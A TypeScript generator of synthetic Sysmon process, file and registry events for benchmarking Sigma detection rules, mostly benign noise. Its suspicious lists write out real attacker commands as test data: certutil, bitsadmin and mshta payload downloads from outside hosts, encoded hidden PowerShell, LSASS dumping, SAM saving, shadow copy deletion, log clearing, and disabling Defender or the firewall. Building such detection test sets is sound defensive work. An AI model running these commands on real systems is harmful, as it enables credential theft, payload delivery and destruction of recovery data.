// Deterministic mixed Sysmon events for the rule-pack benchmark: process creation (EventID 1), network
// connections (3, from generate.ts), file creation (11) and registry events (12 create/delete key, 13 set
// value), flattened the way the SigmaHQ regression samples are. Mostly the everyday noise of a Windows
// fleet, with a few percent of attacker tradecraft that real SigmaHQ rules catch (encoded PowerShell,
// certutil downloads, shadow copy deletion, Run keys, startup-folder drops, ...), so a pack scan does
// both: prunes thousands of rules on benign events and evaluates the right few on the rest.
import { createRng } from '../support/rng.js';
import { generateSysmonNetworkEvents } from './generate.js';

/** Bumped whenever the generated content changes, so stale files under bench-data/ are not reused. */
export const MIXED_GENERATOR_VERSION = 1;

type Rng = () => number;

function pick<T>(rng: Rng, items: readonly T[]): T {
  return items[Math.floor(rng() * items.length)];
}

function hex(rng: Rng, digits: number, upper = false): string {
  let text = '';
  for (let i = 0; i < digits; i++) text += (upper ? '0123456789ABCDEF' : '0123456789abcdef')[Math.floor(rng() * 16)];
  return text;
}

const USERS = ['anna.schmidt', 'ben.miller', 'carla.rossi', 'david.kowalski', 'emma.novak', 'felix.garcia', 'greta.smith', 'hannah.tanaka', 'jürgen.müller', 'josé.garcía'];

interface Program {
  image: string;
  commandLine: string;
  originalFileName: string;
  description: string;
  product: string;
  company: string;
}

const MS = { product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation' };

/** Everyday process creations: [image, command line, original file name, description]. */
const BENIGN_PROCESSES: readonly (readonly [string, string, string, string])[] = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe', 'Host Process for Windows Services'],
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p', 'svchost.exe', 'Host Process for Windows Services'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'CONHOST.EXE', 'Console Window Host'],
  ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', 'RuntimeBroker.exe', 'Runtime Broker'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'taskhostw.exe', 'Host Process for Windows Tasks'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7', 'chrome.exe', 'Google Chrome'],
  ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', 'msedge.exe', 'Microsoft Edge'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', 'Outlook.exe', 'Microsoft Outlook'],
  ['C:\\Windows\\System32\\SearchProtocolHost.exe', '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe12_ Global\\UsGthrCtrlFltPipeMssGthrPipe12 1', 'SearchProtocolHost.exe', 'Microsoft Windows Search Protocol Host'],
  ['C:\\Windows\\System32\\backgroundTaskHost.exe', '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmq0hk3g6bd3c4gk.mca', 'backgroundTaskHost.exe', 'Background Task Host'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -File C:\\ProgramData\\Corp\\inventory.ps1', 'PowerShell.EXE', 'Windows PowerShell'],
  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Corp\\logon.cmd"', 'Cmd.Exe', 'Windows Command Processor'],
  ['C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', '"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=gpu-process', 'electron.exe', 'Visual Studio Code'],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe fetch --all --prune', 'git.exe', 'Git for Windows'],
  ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'Wmiprvse.exe', 'WMI Provider Host'],
];

/** Tradecraft SigmaHQ process-creation rules look for: [image, command line, original file name]. */
const SUSPICIOUS_PROCESSES: readonly (readonly [string, string, string])[] = [
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'PowerShell.EXE'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://185.220.101.4/payload.exe C:\\Users\\Public\\payload.exe', 'CertUtil.exe'],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'VSSADMIN.EXE'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full', 'RUNDLL32.EXE'],
  ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'reg.exe'],
  ['C:\\Windows\\System32\\mshta.exe', 'mshta.exe http://update-check.xyz/invoice.hta', 'MSHTA.EXE'],
  ['C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin.exe /transfer job /download /priority high http://cdn-static-01.net/a.exe C:\\Users\\Public\\a.exe', 'bitsadmin.exe'],
  ['C:\\Windows\\System32\\schtasks.exe', 'schtasks.exe /create /sc minute /mo 5 /tn "Updater" /tr "C:\\Users\\Public\\update.exe" /f', 'schtasks.exe'],
  ['C:\\Windows\\System32\\net.exe', 'net.exe user helpdesk P@ssw0rd! /add', 'net.exe'],
  ['C:\\Windows\\System32\\wevtutil.exe', 'wevtutil.exe cl Security', 'wevtutil.exe'],
  ['C:\\Windows\\System32\\whoami.exe', 'whoami.exe /priv', 'whoami.exe'],
  ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic.exe shadowcopy delete', 'wmic.exe'],
];

const PARENTS = [
  'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\services.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\cmd.exe',
];

const BENIGN_FILES = [
  'C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.tmp',
  'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\{hex}\\favicon[1].ico',
  'C:\\Windows\\Prefetch\\CHROME.EXE-{HEX}.pf',
  'C:\\Users\\{user}\\Downloads\\report-{hex}.pdf',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\{hex}',
  'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Office\\Recent\\{hex}.LNK',
];

const SUSPICIOUS_FILES = [
  'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs',
  'C:\\Users\\Public\\lsass.dmp',
  'C:\\Windows\\Temp\\{hex}.ps1',
  'C:\\Users\\{user}\\AppData\\Local\\Temp\\mimikatz.exe',
  'C:\\Windows\\System32\\Tasks\\Updater',
];

const BENIGN_KEYS = [
  'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.pdf',
  'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated',
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-3623811015-3361044348-30300820-1013\\{hex}',
  'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan',
];

/** Keys SigmaHQ registry rules watch: [key, details]. */
const SUSPICIOUS_KEYS: readonly (readonly [string, string])[] = [
  ['HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\Public\\update.exe'],
  ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware', 'DWORD (0x00000001)'],
  ['HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', 'DWORD (0x00000001)'],
  ['HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile\\EnableFirewall', 'DWORD (0x00000000)'],
  ['HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger', 'C:\\Windows\\System32\\cmd.exe'],
];

function two(n: number): string {
  return n < 10 ? `0${n}` : String(n);
}

function fill(template: string, rng: Rng, user: string): string {
  return template.replace(/\{user\}/g, user).replace(/\{hex\}/g, () => hex(rng, 8)).replace(/\{HEX\}/g, () => hex(rng, 8, true));
}

/** `count` JSON lines: 40% process creation, 30% network, 15% file creation, 15% registry; about 3% of each
 *  kind tradecraft. The same for the same seed. */
export function* generateSysmonMixedEvents(count: number, seed: number): Generator<string> {
  const rng = createRng(seed);
  const network = generateSysmonNetworkEvents(count, seed ^ 0x5eed);
  const start = Date.UTC(2025, 10, 3, 8, 0, 0);
  let recordId = 9_200_000;
  for (let n = 0; n < count; n++) {
    const kind = rng();
    if (kind >= 0.4 && kind < 0.7) {
      yield network.next().value as string;
      continue;
    }
    const computer = `WKS-${1000 + Math.floor(rng() * 360)}.corp.contoso.com`;
    const user = pick(rng, USERS);
    const time = new Date(start + n * 37 + Math.floor(rng() * 1000));
    const utc = `${time.getUTCFullYear()}-${two(time.getUTCMonth() + 1)}-${two(time.getUTCDate())} ${two(time.getUTCHours())}:${two(time.getUTCMinutes())}:${two(time.getUTCSeconds())}.${String(time.getUTCMilliseconds()).padStart(3, '0')}`;
    const suspicious = rng() < 0.03;
    const guid = `{${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}}`;
    const common = {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: computer,
      EventRecordID: recordId++,
      Provider_Name: 'Microsoft-Windows-Sysmon',
      TimeCreated_SystemTime: time.toISOString(),
      Security_UserID: 'S-1-5-18',
      RuleName: '-',
      UtcTime: utc,
      ProcessGuid: guid,
      ProcessId: String(300 + Math.floor(rng() * 20000)),
    };
    let event: Record<string, unknown>;
    if (kind < 0.4) {
      let program: Program;
      if (suspicious) {
        const [image, commandLine, originalFileName] = pick(rng, SUSPICIOUS_PROCESSES);
        program = { image, commandLine, originalFileName, description: '-', ...MS };
      } else {
        const [image, commandLine, originalFileName, description] = pick(rng, BENIGN_PROCESSES);
        program = { image: fill(image, rng, user), commandLine: fill(commandLine, rng, user), originalFileName, description, ...MS };
      }
      const parent = suspicious ? pick(rng, PARENTS) : pick(rng, PARENTS.slice(0, 3));
      event = {
        EventID: 1,
        ...common,
        Image: program.image,
        FileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
        Description: program.description,
        Product: program.product,
        Company: program.company,
        OriginalFileName: program.originalFileName,
        CommandLine: program.commandLine,
        CurrentDirectory: suspicious ? 'C:\\Users\\Public\\' : 'C:\\Windows\\system32\\',
        User: suspicious && rng() < 0.5 ? 'NT AUTHORITY\\SYSTEM' : `CORP\\${user}`,
        LogonGuid: `{${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}}`,
        LogonId: `0x${hex(rng, 6)}`,
        TerminalSessionId: '1',
        IntegrityLevel: pick(rng, ['Medium', 'High', 'System']),
        Hashes: `SHA1=${hex(rng, 40, true)},MD5=${hex(rng, 32, true)},SHA256=${hex(rng, 64, true)},IMPHASH=${hex(rng, 32, true)}`,
        ParentProcessGuid: `{${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}}`,
        ParentProcessId: String(300 + Math.floor(rng() * 20000)),
        ParentImage: parent,
        ParentCommandLine: parent === 'C:\\Windows\\explorer.exe' ? 'C:\\Windows\\Explorer.EXE' : `"${parent}"`,
        ParentUser: `CORP\\${user}`,
      };
    } else if (kind < 0.85) {
      const target = fill(suspicious ? pick(rng, SUSPICIOUS_FILES) : pick(rng, BENIGN_FILES), rng, user);
      event = {
        EventID: 11,
        ...common,
        Image: suspicious ? pick(rng, ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\rundll32.exe', 'C:\\Users\\Public\\update.exe']) : pick(rng, ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Windows Defender\\MsMpEng.exe']),
        TargetFilename: target,
        CreationUtcTime: utc,
        User: `CORP\\${user}`,
      };
    } else {
      const setValue = rng() < 0.7;
      const [key, details] = suspicious ? pick(rng, SUSPICIOUS_KEYS) : [fill(pick(rng, BENIGN_KEYS), rng, user), pick(rng, ['DWORD (0x00000001)', 'Binary Data', 'QWORD (0x00000000-0x65a1b2c3)'])];
      event = {
        EventID: setValue ? 13 : 12,
        ...common,
        EventType: setValue ? 'SetValue' : pick(rng, ['CreateKey', 'DeleteKey']),
        Image: suspicious ? 'C:\\Windows\\System32\\reg.exe' : pick(rng, ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Windows Defender\\MsMpEng.exe']),
        TargetObject: key,
        ...(setValue ? { Details: details } : {}),
        User: suspicious ? 'NT AUTHORITY\\SYSTEM' : `CORP\\${user}`,
      };
    }
    yield JSON.stringify(event);
  }
}
